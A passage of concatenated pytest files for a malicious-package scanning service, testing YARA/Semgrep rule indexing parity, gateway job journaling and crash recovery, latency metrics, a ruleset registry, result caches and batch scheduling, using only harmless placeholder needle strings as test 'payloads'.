            fired = {m.rule_name for m in compiled_yara.match(text)}
            candidates = {r.name for r in index.candidate_yara_rules(text)}
            assert fired <= candidates

    def test_yara_parity_over_full_corpus(self, compiled_yara, small_dataset):
        """Indexed scanning returns the *identical* RuleMatch list."""
        index = RuleIndex(yara=compiled_yara)
        for package in small_dataset.packages:
            text = package.all_text
            naive = compiled_yara.match(text)
            indexed = index.match_yara(text)
            assert [m.rule_name for m in naive] == [m.rule_name for m in indexed]
            assert [m.matched_identifiers for m in naive] == [
                m.matched_identifiers for m in indexed
            ]

    def test_semgrep_parity_over_full_corpus(self, compiled_semgrep, small_dataset):
        from repro.semgrepx import ScanTarget

        index = RuleIndex(semgrep=compiled_semgrep)
        for package in small_dataset.packages:
            target = ScanTarget.from_package(package)
            assert compiled_semgrep.match_target(target) == index.match_semgrep(target)

    def test_stats_report_index_coverage(self, compiled_yara, compiled_semgrep):
        index = RuleIndex(yara=compiled_yara, semgrep=compiled_semgrep)
        stats = index.stats()
        assert stats.yara_rules == len(compiled_yara.rules)
        assert stats.semgrep_rules == len(compiled_semgrep.rules)
        assert 0 < stats.indexed_fraction <= 1
        assert stats.atoms > 0
        assert len(index.fallback_reasons()) == (
            stats.yara_rules - stats.yara_indexed
        ) + (stats.semgrep_rules - stats.semgrep_indexed)

    def test_nonindexable_rule_still_fires_through_fallback(self):
        ruleset = compile_source(
            'rule sizey { strings: $a = "zzzz" condition: $a or filesize > 5 }'
        )
        index = RuleIndex(yara=ruleset)
        assert not index.stats().yara_indexed
        assert [m.rule_name for m in index.match_yara("tiny but >5")] == ["sizey"]

    @_slow
    @given(
        st.lists(
            st.text(
                alphabet=st.characters(min_codepoint=32, max_codepoint=126),
                min_size=1,
                max_size=12,
            ).filter(lambda s: s.strip()),
            min_size=1,
            max_size=5,
        ),
        st.text(max_size=300),
    )
    def test_property_indexed_equals_naive(self, values, haystack):
        """Rules built from arbitrary printable strings: indexed == naive."""
        from repro.yarax.serializer import YaraRuleBuilder

        builder = YaraRuleBuilder("prop_rule")
        for value in values:
            builder.text_string(value)
        builder.condition_any_of_them()
        ruleset = compile_source(builder.to_source())
        index = RuleIndex(yara=ruleset)
        naive = ruleset.match(haystack)
        indexed = index.match_yara(haystack)
        assert [m.rule_name for m in naive] == [m.rule_name for m in indexed]
