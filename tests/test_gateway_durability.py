"""Gateway durability: journaled job lifecycles, interrupted-job recovery
after a restart, per-tenant registries recovered from the store, and the
per-tenant latency histograms in ``/metrics``."""

from __future__ import annotations

import asyncio

import pytest

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.gateway import GatewayApp, GatewayConfig
from repro.gateway.jobs import DONE, INTERRUPTED, TERMINAL_STATES
from repro.gateway.metrics import DEFAULT_BUCKETS, LatencyHistogram, LatencyTracker
from repro.store import open_store
from repro.yarax import compile_source

NEEDLE = "durable_evil_needle"


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
    )


def _targets(count: int = 3) -> list[Package]:
    bad = _pkg("pkg-bad", f"payload = '{NEEDLE}'")
    return [bad] + [
        _pkg(f"pkg-ok-{i}", "def useful(): return 1") for i in range(count - 1)
    ]


def _publish_rules(app: GatewayApp, tenant: str) -> None:
    app.tenant(tenant).registry.publish(
        yara=compile_source(
            f'rule dur {{ strings: $a = "{NEEDLE}" condition: $a }}'
        ),
        label=f"{tenant} rules",
    )


def run(coro):
    return asyncio.run(coro)


class TestLatencyHistogram:
    def test_quantiles_interpolate(self):
        histogram = LatencyHistogram()
        for ms in (1, 2, 3, 4, 100):
            histogram.observe(ms / 1000.0)
        assert histogram.count == 5
        summary = histogram.to_dict()
        assert summary["count"] == 5
        assert 0.001 <= summary["p50_seconds"] <= 0.01
        # interpolation is bounded by the bucket holding the max (0.128s
        # for a 0.1s observation), never by more than one bucket width
        assert summary["p50_seconds"] <= summary["p99_seconds"] <= 0.128
        assert summary["max_seconds"] == pytest.approx(0.1)

    def test_overflow_bucket_caps_at_observed_max(self):
        histogram = LatencyHistogram()
        beyond = DEFAULT_BUCKETS[-1] * 4
        histogram.observe(beyond)
        summary = histogram.to_dict()
        assert summary["overflow"] == 1
        # the +Inf bucket interpolates toward the observed max, so the
        # estimate stays finite and below it — never past the real tail
        assert DEFAULT_BUCKETS[-1] < summary["p99_seconds"] <= beyond
        assert summary["max_seconds"] == pytest.approx(beyond)

    def test_empty_histogram_reports_no_quantiles(self):
        summary = LatencyHistogram().to_dict()
        assert summary["count"] == 0
        assert summary["p50_seconds"] is None
        assert summary["mean_seconds"] is None
        assert summary["buckets"] == []

    def test_tracker_keys_by_tenant_and_kind(self):
        tracker = LatencyTracker()
        tracker.observe("acme", "scan", 0.004)
        tracker.observe("acme", "scan", 0.008)
        tracker.observe("acme", "generate", 1.5)
        tracker.observe("umbrella", "scan", 0.1)
        acme = tracker.tenant_dict("acme")
        assert sorted(acme) == ["generate", "scan"]
        assert acme["scan"]["count"] == 2
        assert acme["generate"]["count"] == 1
        assert tracker.tenant_dict("umbrella")["scan"]["count"] == 1
        assert tracker.tenant_dict("nobody") == {}


class TestJobJournal:
    def test_job_lifecycle_is_journaled(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)

        async def main():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            _publish_rules(app, "acme")
            job = await app.submit_scan("acme", _targets())
            job = await app.await_job("acme", job.id, timeout=30)
            assert job.state == DONE
            await app.shutdown()
            return job.id

        job_id = run(main())
        store.close()

        store, _ = open_store(tmp_path / "store", durable=False)
        with store:
            types = {}
            for record in store.journal.replay():
                if record.data.get("id") == job_id:
                    types[record.type] = record.data
            assert set(types) == {"job-submitted", "job-started", "job-finished"}
            assert types["job-finished"]["state"] == DONE
            assert types["job-finished"]["tenant"] == "acme"

    def test_restart_marks_inflight_jobs_interrupted(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        # simulate the journal a crashed gateway leaves: a job that was
        # submitted and started but never reached a terminal state
        store.journal.append("job-submitted", {
            "id": "scan-7", "tenant": "acme", "kind": "scan",
            "label": "batch", "state": "queued",
        })
        store.journal.append("job-started", {
            "id": "scan-7", "tenant": "acme", "kind": "scan",
            "label": "batch", "state": "running",
        })
        store.close()

        store, _ = open_store(tmp_path / "store", durable=False)

        async def main():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            assert len(app.interrupted_jobs) == 1
            zombie = app.interrupted_jobs[0]
            assert zombie.id == "scan-7"
            assert zombie.state == INTERRUPTED
            assert zombie.state in TERMINAL_STATES
            assert "interrupted" in zombie.error
            # the recovered job is addressable through the normal API
            assert app.jobs.get("scan-7").state == INTERRUPTED
            assert app.metrics()["interrupted_jobs"] == 1
            await app.shutdown()

        run(main())
        store.close()

    def test_interrupted_marking_is_idempotent_across_restarts(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        store.journal.append("job-submitted", {
            "id": "scan-1", "tenant": "acme", "kind": "scan",
            "label": "", "state": "queued",
        })
        store.close()

        for _ in range(2):  # two restarts: second sees the journaled marking
            store, _ = open_store(tmp_path / "store", durable=False)

            async def main():
                app = await GatewayApp(GatewayConfig(), store=store).start()
                await app.shutdown()
                return len(app.interrupted_jobs)

            first_restart_interrupted = run(main())
            store.close()

        # after the first restart journaled the interruption, the second
        # restart must not resurrect the job as interrupted again
        assert first_restart_interrupted == 0

    def test_new_job_ids_do_not_collide_with_recovered_ones(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)
        store.journal.append("job-started", {
            "id": "scan-3", "tenant": "acme", "kind": "scan",
            "label": "", "state": "running",
        })
        store.close()

        store, _ = open_store(tmp_path / "store", durable=False)

        async def main():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            _publish_rules(app, "acme")
            job = await app.submit_scan("acme", _targets())
            # the restored id counter starts past the recovered job
            assert int(job.id.rsplit("-", 1)[1]) > 3
            job = await app.await_job("acme", job.id, timeout=30)
            assert job.state == DONE
            await app.shutdown()

        run(main())
        store.close()


class TestTenantRegistryDurability:
    def test_tenant_registry_recovers_from_substore(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)

        async def first_life():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            _publish_rules(app, "acme")
            app.tenant("acme").registry.snapshot()
            await app.shutdown()

        run(first_life())
        store.close()

        store, _ = open_store(tmp_path / "store", durable=False)

        async def second_life():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            registry = app.tenant("acme").registry
            assert registry.versions() == [1]
            assert registry.current_version() == 1
            # the recovered ruleset actually scans
            job = await app.submit_scan("acme", _targets())
            job = await app.await_job("acme", job.id, timeout=30)
            assert job.state == DONE
            assert job.result["malicious"] == 1
            await app.shutdown()

        run(second_life())
        store.close()

    def test_tenants_get_isolated_substores(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)

        async def main():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            app.register_tenant("umbrella")
            _publish_rules(app, "acme")
            assert app.tenant("acme").registry.versions() == [1]
            assert app.tenant("umbrella").registry.versions() == []
            await app.shutdown()

        run(main())
        store.close()
        assert (tmp_path / "store" / "tenants" / "acme" / "journal").is_dir()


class TestMetricsLatency:
    def test_metrics_report_per_tenant_latency(self, tmp_path):
        store, _ = open_store(tmp_path / "store", durable=False)

        async def main():
            app = await GatewayApp(GatewayConfig(), store=store).start()
            app.register_tenant("acme")
            _publish_rules(app, "acme")
            for _ in range(3):
                job = await app.submit_scan("acme", _targets())
                await app.await_job("acme", job.id, timeout=30)
            metrics = app.metrics()
            tenant = next(t for t in metrics["tenants"] if t["name"] == "acme")
            scan = tenant["latency"]["scan"]
            assert scan["count"] == 3
            assert scan["p50_seconds"] >= 0.0
            assert scan["p99_seconds"] >= scan["p50_seconds"]
            assert scan["sum_seconds"] >= 0.0
            await app.shutdown()

        run(main())
        store.close()

    def test_latency_tracked_without_store_too(self):
        async def main():
            app = await GatewayApp(GatewayConfig()).start()
            app.register_tenant("acme")
            _publish_rules(app, "acme")
            job = await app.submit_scan("acme", _targets())
            await app.await_job("acme", job.id, timeout=30)
            tenant = next(
                t for t in app.metrics()["tenants"] if t["name"] == "acme"
            )
            assert tenant["latency"]["scan"]["count"] == 1
            await app.shutdown()

        run(main())
