"""Registry, cache, scheduler and the batch-scanning service (plus the CLI)."""

import json

import pytest

from repro.cli import main as cli_main
from repro.evaluation.detector import PackageDetection, RuleScanner
from repro.scanserve import (
    BoundedQueue,
    DiskScanResultCache,
    RuleCostSample,
    RuleCostTracker,
    RulesetRegistry,
    ScanResultCache,
    ScanScheduler,
    ScanService,
    ScanServiceConfig,
    shard_items,
)
from repro.yarax import compile_source


def _tiny_yara(name="tiny", needle="needle_zzz"):
    return compile_source(
        f'rule {name} {{ strings: $a = "{needle}" condition: $a }}'
    )


# -- registry -----------------------------------------------------------------------


class TestRulesetRegistry:
    def test_empty_registry_raises(self):
        registry = RulesetRegistry()
        with pytest.raises(LookupError):
            registry.current()

    def test_publish_and_hot_swap(self):
        registry = RulesetRegistry()
        v1 = registry.publish(yara=_tiny_yara("first"), label="gen-1")
        assert registry.current().version == v1.version == 1
        v2 = registry.publish(yara=_tiny_yara("second"), label="gen-2")
        assert registry.current().version == v2.version == 2
        assert registry.versions() == [1, 2]

    def test_publish_without_activation(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("live"))
        staged = registry.publish(yara=_tiny_yara("staged"), activate=False)
        assert registry.current().version == 1
        registry.activate(staged.version)
        assert registry.current().version == staged.version

    def test_rollback(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("good"))
        registry.publish(yara=_tiny_yara("bad"))
        registry.activate(1)
        assert registry.current().index.stats().yara_rules == 1
        assert registry.current().yara.rule_names() == ["good"]

    def test_retire_rules(self):
        registry = RulesetRegistry()
        registry.publish(yara=_tiny_yara("a"))
        registry.publish(yara=_tiny_yara("b"))
        registry.retire(1)
        assert registry.versions() == [2]
        with pytest.raises(ValueError):
            registry.retire(2)  # cannot retire the active version
        with pytest.raises(LookupError):
            registry.get(1)

    def test_publish_needs_rules(self):
        with pytest.raises(ValueError):
            RulesetRegistry().publish()

    def test_publish_generated(self, generated_rules):
        registry = RulesetRegistry()
        version = registry.publish_generated(generated_rules, label="pipeline")
        assert version.rule_count > 0
        assert "pipeline" in version.describe()


# -- cache --------------------------------------------------------------------------


class TestScanResultCache:
    def _detection(self, name="pkg==1.0"):
        return PackageDetection(
            package=name, actual_malicious=True, yara_rules=["r1"]
        )

    def test_roundtrip_and_stats(self):
        cache = ScanResultCache(max_entries=8)
        assert cache.get("fp", 1) is None
        cache.put("fp", 1, self._detection())
        hit = cache.get("fp", 1)
        assert hit is not None and hit.yara_rules == ["r1"]
        assert cache.stats.hits == 1 and cache.stats.misses == 1

    def test_version_isolation(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        assert cache.get("fp", 2) is None  # new ruleset version: no stale hits

    def test_returned_detections_are_copies(self):
        cache = ScanResultCache()
        cache.put("fp", 1, self._detection())
        cache.get("fp", 1).yara_rules.append("mutated")
        assert cache.get("fp", 1).yara_rules == ["r1"]

    def test_lru_eviction(self):
        cache = ScanResultCache(max_entries=2)
        cache.put("a", 1, self._detection("a"))
        cache.put("b", 1, self._detection("b"))
        assert cache.get("a", 1) is not None  # refresh 'a'
        cache.put("c", 1, self._detection("c"))
        assert cache.get("b", 1) is None  # 'b' was least recently used
        assert cache.get("a", 1) is not None
        assert cache.stats.evictions == 1

    def test_invalidate_version(self):
        cache = ScanResultCache()
        cache.put("a", 1, self._detection())
        cache.put("b", 1, self._detection())
        cache.put("a", 2, self._detection())
        assert cache.invalidate_version(1) == 2
        assert len(cache) == 1


# -- persistent disk cache ----------------------------------------------------------


class TestDiskScanResultCache:
    def _detection(self, name="pkg==1.0"):
        return PackageDetection(
            package=name, actual_malicious=True,
            yara_rules=["r1"], semgrep_rules=["s1"],
        )

    def test_roundtrip(self, tmp_path):
        cache = DiskScanResultCache(tmp_path / "cache")
        assert cache.get("fp", 1) is None
        cache.put("fp", 1, self._detection())
        hit = cache.get("fp", 1)
        assert hit is not None
        assert (hit.package, hit.yara_rules, hit.semgrep_rules) == (
            "pkg==1.0", ["r1"], ["s1"],
        )
        assert cache.get("fp", 2) is None  # version isolation

    def test_entries_survive_restart(self, tmp_path):
        directory = tmp_path / "cache"
        first = DiskScanResultCache(directory)
        first.put("fp-a", 1, self._detection("a"))
        first.put("fp-b", 1, self._detection("b"))
        reborn = DiskScanResultCache(directory)  # fresh process attaches
        assert len(reborn) == 2
        assert reborn.get("fp-a", 1).package == "a"

    def test_lru_eviction_deletes_files(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory, max_entries=2)
        cache.put("a", 1, self._detection("a"))
        cache.put("b", 1, self._detection("b"))
        assert cache.get("a", 1) is not None  # refresh 'a'
        cache.put("c", 1, self._detection("c"))
        assert cache.get("b", 1) is None
        assert cache.get("a", 1) is not None
        assert len(list(directory.glob("*.json"))) == 2
        assert cache.stats.evictions == 1

    def test_corrupt_entries_dropped_on_load(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory)
        cache.put("fp", 1, self._detection())
        (directory / "garbage.json").write_text("{not json", encoding="utf-8")
        reborn = DiskScanResultCache(directory)
        assert len(reborn) == 1
        assert not (directory / "garbage.json").exists()

    def test_int_and_str_keys_never_serve_each_other(self, tmp_path):
        """Filenames stringify the key, so 1 and "1" share a file; a typed
        mismatch must read as a miss, not the other key's result."""
        cache = DiskScanResultCache(tmp_path / "cache")
        cache.put("fp", 1, self._detection("int-keyed"))
        cache.put("fp", "1", self._detection("str-keyed"))
        assert cache.get("fp", 1) is None  # overwritten file: miss, not a lie
        assert cache.get("fp", "1").package == "str-keyed"

    def test_invalidate_version_and_clear(self, tmp_path):
        cache = DiskScanResultCache(tmp_path / "cache")
        cache.put("a", 1, self._detection())
        cache.put("b", 2, self._detection())
        assert cache.invalidate_version(1) == 1
        assert len(cache) == 1
        cache.clear()
        assert len(cache) == 0
        assert not list((tmp_path / "cache").glob("*.json"))

    def test_service_cache_survives_restart(self, generated_rules, small_dataset, tmp_path):
        """A redeployed service keeps its warm cache via cache_dir."""
        config = ScanServiceConfig(mode="inprocess", cache_dir=str(tmp_path / "cache"))
        first = ScanService(config=config)
        first.publish_generated(generated_rules)
        cold = first.scan_batch(small_dataset.packages[:6])
        assert cold.cache_hits == 0

        reborn = ScanService(config=config)  # simulates a process restart
        reborn.publish_generated(generated_rules)  # republished as v1 again
        warm = reborn.scan_batch(small_dataset.packages[:6])
        assert warm.cache_hits == 6
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in warm.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in cold.detections]

    def test_restart_with_different_rules_never_serves_stale_results(
        self, small_dataset, tmp_path
    ):
        """Both processes publish *v1*, but different rules: results keyed on
        the ruleset content digest must not leak across."""
        config = ScanServiceConfig(mode="inprocess", cache_dir=str(tmp_path / "cache"))
        first = ScanService(config=config)
        first.publish(yara=_tiny_yara("catch_all", needle="import"))
        hot = first.scan_batch(small_dataset.packages[:4])
        assert all(d.matched_rules for d in hot.detections)

        reborn = ScanService(config=config)
        reborn.publish(yara=_tiny_yara("miss_all", needle="no_such_token_anywhere"))
        assert reborn.registry.current().version == 1  # same version number!
        fresh = reborn.scan_batch(small_dataset.packages[:4])
        assert fresh.cache_hits == 0
        assert all(not d.matched_rules for d in fresh.detections)


# -- per-rule cost accounting --------------------------------------------------------


class TestRuleCostAccounting:
    def test_sample_records_and_tracker_merges(self):
        sample = RuleCostSample()
        sample.record("yara", "r1", 0.5, "pkg-a")
        sample.record("yara", "r1", 1.5, "pkg-b")
        sample.record("semgrep", "s1", 0.25, "pkg-a")
        tracker = RuleCostTracker()
        tracker.absorb(sample)
        other = RuleCostSample()
        other.record("yara", "r1", 2.0, "pkg-c")
        tracker.absorb(other)
        top = tracker.top_slow_rules(2)
        assert top[0].rule_key == "r1"
        assert top[0].evaluations == 3
        assert top[0].max_seconds == 2.0
        assert top[0].slowest_package == "pkg-c"
        assert top[0].total_seconds == pytest.approx(4.0)
        assert top[0].mean_seconds == pytest.approx(4.0 / 3)

    def test_ranking_modes(self):
        tracker = RuleCostTracker()
        sample = RuleCostSample()
        for _ in range(10):  # cheap but hot
            sample.record("yara", "hot", 0.2, "p")
        sample.record("yara", "spiky", 1.0, "q")
        tracker.absorb(sample)
        assert tracker.top_slow_rules(1, by="max")[0].rule_key == "spiky"
        assert tracker.top_slow_rules(1, by="total")[0].rule_key == "hot"
        with pytest.raises(ValueError):
            tracker.top_slow_rules(1, by="p99")

    def test_service_populates_top_slow_rules(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:6])
        top = svc.top_slow_rules(5)
        assert top
        known = set(generated_rules.compile_yara().rule_names()) | set(
            generated_rules.compile_semgrep().rule_ids()
        )
        assert all(cost.rule_key in known for cost in top)
        assert all(cost.evaluations > 0 for cost in top)
        assert top == sorted(top, key=lambda c: c.max_seconds, reverse=True)
        assert "evals" in top[0].describe()

    def test_tracking_can_be_disabled(self, generated_rules, small_dataset):
        svc = ScanService(
            config=ScanServiceConfig(mode="inprocess", track_rule_costs=False)
        )
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:4])
        assert svc.top_slow_rules() == []


class TestTelemetryDeterminism:
    def test_cost_ties_break_on_engine_then_rule_name(self):
        """Equal costs must rank identically across runs (satellite: stable
        secondary sort), regardless of recording order."""
        orders = []
        for names in (("zeta", "alpha", "mid"), ("mid", "zeta", "alpha")):
            tracker = RuleCostTracker()
            sample = RuleCostSample()
            for name in names:
                sample.record("yara", name, 0.5, "pkg")
            sample.record("semgrep", "alpha", 0.5, "pkg")
            tracker.absorb(sample)
            orders.append([(c.engine, c.rule_key) for c in tracker.top_slow_rules(4)])
        assert orders[0] == orders[1]
        assert orders[0] == [
            ("semgrep", "alpha"), ("yara", "alpha"), ("yara", "mid"), ("yara", "zeta"),
        ]


class TestAutomatonLaneThreshold:
    def test_index_lane_follows_the_configured_threshold(self):
        from repro.scanserve import RuleIndex

        yara = _tiny_yara("one", "needle_aaa")
        low = RuleIndex(yara=yara, automaton_threshold=1)
        high = RuleIndex(yara=yara, automaton_threshold=512)
        assert low.lane == "automaton"
        assert high.lane == "substring"
        assert low.stats().lane == "automaton"
        assert low.stats().automaton_threshold == 1
        # both lanes find the same atoms (the parity contract)
        assert low.yara_rule_names("has needle_aaa inside") == ["one"]
        assert high.yara_rule_names("has needle_aaa inside") == ["one"]

    def test_service_records_the_chosen_lane(self, small_dataset):
        service = ScanService(
            config=ScanServiceConfig(mode="inprocess", automaton_threshold=1)
        )
        service.publish(yara=_tiny_yara())
        service.scan_batch(small_dataset.packages[:3])
        assert service.stats.lanes == {"automaton": 1}
        assert service.registry.automaton_threshold == 1

    def test_naive_mode_is_recorded_as_its_own_lane(self, small_dataset):
        service = ScanService(
            config=ScanServiceConfig(mode="inprocess", use_index=False)
        )
        service.publish(yara=_tiny_yara())
        service.scan_batch(small_dataset.packages[:3])
        assert service.stats.lanes == {"naive": 1}

    def test_fully_cached_batches_count_as_the_cache_lane(self, small_dataset):
        service = ScanService(config=ScanServiceConfig(mode="inprocess"))
        service.publish(yara=_tiny_yara())
        service.scan_batch(small_dataset.packages[:3])
        service.scan_batch(small_dataset.packages[:3])  # all cache hits
        assert service.stats.lanes == {"substring": 1, "cache": 1}


# -- scheduler ----------------------------------------------------------------------


def _double_shard(shard):
    return [value * 2 for _, value in shard]


class TestScheduler:
    def test_shard_items_round_robin(self):
        shards = shard_items(["a", "b", "c", "d", "e"], 2)
        assert shards == [[(0, "a"), (2, "c"), (4, "e")], [(1, "b"), (3, "d")]]

    def test_more_shards_than_items(self):
        assert shard_items(["a"], 4) == [[(0, "a")]]

    def test_inprocess_run(self):
        scheduler = ScanScheduler(mode="inprocess")
        report = scheduler.run(shard_items([1, 2, 3, 4], 2), _double_shard)
        assert report.results == [[2, 6], [4, 8]]
        assert report.mode == "inprocess"

    def test_process_run_or_fallback(self):
        scheduler = ScanScheduler(mode="auto", max_workers=2)
        report = scheduler.run(shard_items(list(range(8)), 4), _double_shard)
        flattened = sorted(v for shard in report.results for v in shard)
        assert flattened == [v * 2 for v in range(8)]
        assert report.mode in ("process", "inprocess")

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError):
            ScanScheduler(mode="celery")

    def test_bounded_queue_backpressure(self):
        queue = BoundedQueue(max_items=2)
        assert queue.put(1) and queue.put(2)
        assert not queue.put(3, timeout=0.01)  # full: put times out
        assert queue.get() == 1
        assert queue.put(3, timeout=0.01)
        assert queue.drain() == [2, 3]
        queue.close()
        with pytest.raises(RuntimeError):
            queue.get()

    def test_chunk_items_contiguous_slices(self):
        from repro.scanserve import chunk_items

        tagged = list(enumerate("abcde"))
        assert chunk_items(tagged, 2) == [
            [(0, "a"), (1, "b")],
            [(2, "c"), (3, "d")],
            [(4, "e")],
        ]
        assert chunk_items(tagged, 10) == [tagged]
        assert chunk_items([], 3) == []
        with pytest.raises(ValueError):
            chunk_items(tagged, 0)


class TestChunkedDispatch:
    def test_chunk_size_splits_the_batch_without_changing_detections(
        self, small_dataset
    ):
        packages = small_dataset.packages[:8]
        whole = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        whole.publish(yara=_tiny_yara())
        chunked = ScanService(
            config=ScanServiceConfig(mode="inprocess", enable_cache=False, chunk_size=3)
        )
        chunked.publish(yara=_tiny_yara())
        a = whole.scan_batch(packages)
        b = chunked.scan_batch(packages)
        assert [(d.package, d.yara_rules) for d in a.detections] == [
            (d.package, d.yara_rules) for d in b.detections
        ]

    def test_process_mode_matches_inprocess(self, small_dataset):
        packages = small_dataset.packages[:8]
        inproc = ScanService(config=ScanServiceConfig(mode="inprocess", enable_cache=False))
        inproc.publish(yara=_tiny_yara())
        proc = ScanService(
            config=ScanServiceConfig(
                shards=2, mode="process", enable_cache=False, chunk_size=4
            )
        )
        proc.publish(yara=_tiny_yara())
        a = inproc.scan_batch(packages)
        b = proc.scan_batch(packages)
        assert b.mode == "process"
        assert [(d.package, d.yara_rules) for d in a.detections] == [
            (d.package, d.yara_rules) for d in b.detections
        ]

    def test_worker_attaches_from_version_blob(self, small_dataset):
        """The spawn-safe lane: a worker restores the publish-time compiled
        index from ``RulesetVersion.to_bytes()`` and scans identically."""
        import repro.scanserve.service as service_module

        registry = RulesetRegistry()
        version = registry.publish(yara=_tiny_yara())
        blob = version.to_bytes()
        saved_scanner = service_module._WORKER_SCANNER
        try:
            service_module._worker_init(blob, 1, True, False)
            worker_scanner = service_module._WORKER_SCANNER
            assert worker_scanner.index is not None
            live = RuleScanner.with_index(yara_rules=version.yara)
            for package in small_dataset.packages[:4]:
                assert (
                    worker_scanner.scan_package(package).yara_rules
                    == live.scan_package(package).yara_rules
                )
        finally:
            service_module._WORKER_SCANNER = saved_scanner


class TestScanPreparedBatch:
    def test_batch_scan_matches_per_package(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        scanner = RuleScanner.with_index(yara_rules=yara, semgrep_rules=semgrep)
        batch = scanner.scan_prepared(small_dataset.packages)
        singles = [scanner.scan_package(p) for p in small_dataset.packages]
        assert [(d.package, d.yara_rules, d.semgrep_rules) for d in batch] == [
            (d.package, d.yara_rules, d.semgrep_rules) for d in singles
        ]


# -- service ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def service(generated_rules):
    svc = ScanService(config=ScanServiceConfig(shards=2, mode="inprocess"))
    svc.publish_generated(generated_rules, label="session rules")
    return svc


class TestScanService:
    def test_batch_parity_with_naive_scanner(
        self, service, generated_rules, small_dataset
    ):
        """The service's detections are identical to a naive RuleScanner pass."""
        naive = RuleScanner(
            yara_rules=generated_rules.compile_yara(),
            semgrep_rules=generated_rules.compile_semgrep(),
        ).scan(small_dataset.packages)
        batch = service.scan_batch(small_dataset.packages)
        assert [
            (d.package, d.yara_rules, d.semgrep_rules) for d in batch.detections
        ] == [(d.package, d.yara_rules, d.semgrep_rules) for d in naive.detections]
        assert batch.result.confusion() == naive.confusion()

    def test_cache_serves_repeat_batches(self, service, small_dataset):
        before = service.cache.stats.hits
        batch = service.scan_batch(small_dataset.packages)
        assert batch.cache_hits == len(small_dataset.packages)
        assert service.cache.stats.hits > before

    def test_hot_swap_invalidates_results(self, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish(yara=_tiny_yara(needle="no_such_token_anywhere"))
        first = svc.scan_batch(small_dataset.packages[:4])
        assert all(not d.matched_rules for d in first.detections)
        # hot-swap in a rule that matches everything ('import' appears everywhere)
        svc.publish(yara=_tiny_yara("catch_all", needle="import"))
        second = svc.scan_batch(small_dataset.packages[:4])
        assert second.ruleset_version == first.ruleset_version + 1
        assert second.cache_hits == 0  # version key change bypasses stale entries
        assert all(d.matched_rules for d in second.detections)

    def test_shard_stats_cover_all_packages(self, small_dataset, generated_rules):
        svc = ScanService(
            config=ScanServiceConfig(shards=3, mode="inprocess", enable_cache=False)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages)
        assert len(batch.shard_stats) == 3
        assert sum(s.packages for s in batch.shard_stats) == len(
            small_dataset.packages
        )
        assert batch.packages_per_second > 0
        assert batch.result.timings.packages == len(small_dataset.packages)

    def test_scan_package_single(self, service, small_dataset):
        detection = service.scan_package(small_dataset.packages[0])
        assert detection.package == small_dataset.packages[0].identifier

    def test_to_json_report(self, service, small_dataset):
        batch = service.scan_batch(small_dataset.packages[:3])
        report = json.loads(batch.to_json())
        assert report["packages"] == 3
        assert len(report["detections"]) == 3
        assert {"package", "malicious", "matched_rules"} <= set(
            report["detections"][0]
        )

    def test_to_dict_summary_mode_replaces_detections_with_flagged(
        self, service, small_dataset
    ):
        batch = service.scan_batch(small_dataset.packages)
        full = batch.to_dict()
        summary = batch.to_dict(include_detections=False)
        assert "detections" not in summary
        assert "flagged" in summary and "flagged" not in full
        # the flagged list is exactly the malicious predictions of full mode
        assert summary["flagged"] == [
            d["package"] for d in full["detections"] if d["malicious"]
        ]
        assert summary["malicious"] == len(summary["flagged"]) == full["malicious"]
        # the telemetry envelope is identical either way
        for key in ("ruleset_version", "packages", "cache_hits", "mode", "shards"):
            assert summary[key] == full[key]
        # summary mode is what gateway job payloads embed: it must stay small
        assert json.loads(batch.to_json(include_detections=False)) == summary

    def test_match_threshold_respected(self, generated_rules, small_dataset):
        svc = ScanService(
            config=ScanServiceConfig(mode="inprocess", match_threshold=99)
        )
        svc.publish_generated(generated_rules)
        batch = svc.scan_batch(small_dataset.packages[:5])
        assert batch.result.confusion().true_positive == 0

    def test_service_stats_accumulate(self, generated_rules, small_dataset):
        svc = ScanService(config=ScanServiceConfig(mode="inprocess"))
        svc.publish_generated(generated_rules)
        svc.scan_batch(small_dataset.packages[:4])
        svc.scan_batch(small_dataset.packages[:4])
        assert svc.stats.batches == 2
        assert svc.stats.packages_scanned == 8
        assert svc.stats.cache_hits == 4


# -- indexed RuleScanner ------------------------------------------------------------


class TestIndexedRuleScanner:
    def test_with_index_matches_naive(self, generated_rules, small_dataset):
        yara = generated_rules.compile_yara()
        semgrep = generated_rules.compile_semgrep()
        naive = RuleScanner(yara_rules=yara, semgrep_rules=semgrep)
